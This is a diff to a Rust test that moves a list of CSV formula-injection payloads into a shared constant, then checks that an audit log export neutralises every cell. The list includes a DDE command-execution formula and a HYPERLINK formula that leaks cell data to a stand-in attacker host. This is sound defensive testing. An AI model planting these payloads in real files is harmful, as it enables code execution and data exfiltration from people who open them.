@@ -263,25 +263,26 @@ async fn whoever_searches_without_end_waits_and_nobody_else() {
     site.close().await;
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn no_text_in_an_export_is_a_formula() {
-    let site = Site::open().await;
-    // What comes from outside: the name of a source, the reason that a script gives, the detail; each of these in each.
-    let payloads = [
-        "=cmd|' /C calc'!A0",
-        "+1+1",
-        "-2+3",
-        "@SUM(1+1)",
-        "\t=1",
-        "\r=1",
-        "\n=1",
-        "＝1+1",
-        "＋1",
-        "－1",
-        "＠sum(1)",
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
-    ];
-    let rows: Vec<_> = (1..).zip(payloads).map(|(number, text)| {
+/// What a spreadsheet would work out.
+pub const PAYLOADS: [&str; 12] = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠sum(1)",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+];
+
+/// The export of a log in which each of [`PAYLOADS`] stands wherever a text comes from outside: the name of a source, the
+/// reason that a script gives, the detail.
+pub async fn export_of_payloads(site: &Site) -> String {
+    let rows: Vec<_> = (1..).zip(PAYLOADS).map(|(number, text)| {
         let text = format!("'{}'", text.replace('\'', "''"));
         format!(
             "({number}, {text}, 'admin', -5, 1, {text}, 'intake', {text}, {text}, {text}, 1796011200000, 1, {text})"
@@ -293,10 +294,16 @@ async fn no_text_in_an_export_is_a_formula() {
         rows.join(", ")
     );
     site.desk.sql(&insert, "").await;
-    let mut ada = Browser::enter(&site, &AUDITOR).await;
-    let file = ada.get("/audit/export.csv").await;
+    let mut ada = Browser::enter(site, &AUDITOR).await;
+    ada.get("/audit/export.csv").await.html
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_text_in_an_export_is_a_formula() {
+    let site = Site::open().await;
+    let file = export_of_payloads(&site).await;
     // RFC 4180, as another program reads it.
-    let text = file.html.strip_prefix('\u{feff}').expect("it says that it is UTF-8");
+    let text = file.strip_prefix('\u{feff}').expect("it says that it is UTF-8");
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let mut carried = [0; 12];
     for record in reader.records() {
@@ -307,7 +314,7 @@ async fn no_text_in_an_export_is_a_formula() {
                 is_number || !"=+-@\t\r\n＝＋－＠".contains(first),
                 "{cell:?} would be worked out"
             );
-            for (count, payload) in carried.iter_mut().zip(payloads) {
+            for (count, payload) in carried.iter_mut().zip(PAYLOADS) {
                 *count += usize::from(cell.strip_prefix('\'') == Some(payload));
             }
         }
